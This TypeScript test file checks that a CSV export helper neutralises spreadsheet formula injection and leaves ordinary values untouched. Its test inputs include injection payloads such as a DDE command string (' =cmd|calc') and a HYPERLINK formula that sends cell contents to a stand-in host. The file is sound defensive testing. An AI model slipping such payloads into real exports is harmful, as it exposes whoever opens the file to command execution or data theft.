import Papa from 'papaparse';
import { expect, test } from 'vitest';
import { csvCell, csvLine } from './csv.ts';

test.each([
  '=1+1',
  '+49 30 1234',
  '-2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =cmd|calc',
  '＝1',
  '=HYPERLINK("http://x.example?"&A1)',
])('%j is no formula any more', (text) => {
  const [[cell]] = Papa.parse<[string]>(csvCell(text)).data as [[string]];
  expect(cell).toBe(`'${text}`);
});

test.each([
  'plain',
  'a,b',
  'say "no"',
  'two\nlines',
  'semi;colon',
  "O'Hara",
  '',
  'é 日本',
  "'quoted",
])('%j stays as it is', (text) => {
  const { data } = Papa.parse<string[]>(csvLine(['x', text]));
  expect(data[0]).toEqual(['x', text]);
});
